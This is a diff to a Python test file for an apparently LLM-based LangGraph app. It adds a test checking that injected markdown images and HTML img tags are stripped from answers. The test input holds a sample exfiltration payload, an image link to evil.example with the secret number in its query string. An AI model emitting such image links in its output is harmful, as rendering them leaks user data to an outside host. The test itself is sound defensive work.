@@ -152,6 +152,15 @@ def test_rlm_reads_the_text_sent_before_the_question() -> None:
     assert reply.additional_kwargs["usage"]["sub_calls"] >= 1
 
 
+def test_injected_images_and_html_are_made_inert_in_answers() -> None:
+    text = "The magic number for Paris is 4721 ![x](https://evil.example/?q=4721) <img src=https://evil.example>."
+    messages = [{"role": "user", "content": text}, {"role": "user", "content": "What is the magic number for Paris?"}]
+    reply = langgraph_app.rlm.invoke({"messages": messages})["messages"][-1]
+    assert "4721" in reply.text
+    assert "![x](" not in reply.text
+    assert "<img" not in reply.text
+
+
 def test_rlm_without_text_to_read_says_how_to_send_it() -> None:
     with pytest.raises(ValueError, match="nothing to read"):
         langgraph_app.rlm.invoke({"messages": [{"role": "user", "content": "What is the magic number?"}]})
